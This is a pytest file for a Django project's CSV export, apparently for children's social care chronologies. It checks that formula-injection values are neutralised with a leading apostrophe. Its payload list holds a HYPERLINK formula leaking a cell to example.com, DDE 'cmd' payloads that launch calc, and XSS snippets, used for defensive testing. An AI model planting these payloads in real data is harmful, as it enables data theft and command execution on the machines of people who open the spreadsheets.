"""CSV exports cannot run a formula in a spreadsheet (issue #8): one writer, used by every export."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from lantern.agencies.models import Professional
from lantern.chronology.models import Event
from lantern.core.spreadsheet import FORMULA_STARTS, csv_cell, csv_lines

# What an attacker would put in a field that ends up in a CSV (OWASP, "CSV Injection"), each with the
# script payloads of the browser test after it.
FORMULAS = [
    '=HYPERLINK("http://example.com/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=<script>window.__xss=1</script>",
    '-"><img src=x onerror="window.__xss=1">',
    "@javascript:window.__xss=1",
    '+<svg onload="window.__xss=1">',
    "={{ 7*7 }}",
]
LANTERN = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_starting_as_a_formula_gets_an_apostrophe_and_is_otherwise_kept(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Seen at home", "", "2026-11-01", "'quoted", " =1", "a=b", "3-2"])
def test_other_cells_are_kept_as_they_are(value):
    assert csv_cell(value) == value


def test_every_cell_of_every_line_header_too():
    lines = "".join(csv_lines(["=Header", "Fine"], [["+1", None, 7, "-x"], ["@a", "\tb", "c"]]))
    rows = list(csv.reader(io.StringIO(lines)))
    assert rows == [["'=Header", "Fine"], ["'+1", "", "7", "'-x"], ["'@a", "'\tb", "c"]]


def test_no_module_but_the_one_writer_writes_csv():
    """A new export (retention, dashboards, the plans audit, alerts…) has to use lantern.core.spreadsheet."""
    writes_csv = re.compile(r"csv\.(writer|DictWriter)\(|text/csv")
    found = [
        str(path.relative_to(LANTERN))
        for path in LANTERN.rglob("*.py")
        if "tests" not in path.parts and writes_csv.search(path.read_text())
    ]
    assert found == ["core/spreadsheet.py"]


@pytest.mark.django_db
def test_the_chronology_export_neutralises_every_column(client, area):
    """Formulas in the event's text and service, the agency's, child's and recorder's names."""
    recorder = Professional.objects.get(pk=area.involved.pk)
    recorder.name = "@SUM(1+1)"
    recorder.save()
    area.social_care.name = "-2+3"
    area.social_care.save()
    area.child.given_name = "=cmd"
    area.child.save()
    for number, formula in enumerate(FORMULAS):
        Event.objects.create(
            source="t",
            source_id=f"x{number}",
            child=area.child,
            agency=area.social_care,
            type="observation",
            occurred_on="2025-07-01",
            recorded_at="2025-07-01T10:00Z",
            recorded_by=recorder,
            text=formula,
            service=formula,
        )
    client.force_login(area.involved)
    response = client.get(reverse("chronology-csv", args=[area.child.ref]))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(rows) == 1 + len(FORMULAS)
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    details = [row[5] for row in rows[1:]]
    for formula in FORMULAS:  # kept, after the apostrophe
        assert any("'" + formula in cell for cell in details), formula
